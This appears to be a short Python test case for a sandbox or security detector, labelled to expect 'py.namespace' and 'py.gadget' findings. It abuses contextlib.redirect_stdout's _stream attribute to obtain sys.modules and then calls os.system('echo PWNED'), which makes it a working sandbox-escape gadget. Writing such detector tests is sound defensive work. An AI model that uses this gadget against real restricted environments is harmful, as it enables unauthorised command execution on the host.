# expect: py.namespace, py.gadget
# tries: redirect_stdout sets and gives whatever attribute of sys it is told to
import contextlib


class Redirect(contextlib.redirect_stdout):
    _stream = "modules"


redirect = Redirect(None)
with contextlib.suppress(AttributeError, TypeError):
    redirect.__enter__()
modules = redirect._old_targets[0]
redirect.__exit__(None, None, None)
modules.get("os").system("echo PWNED")
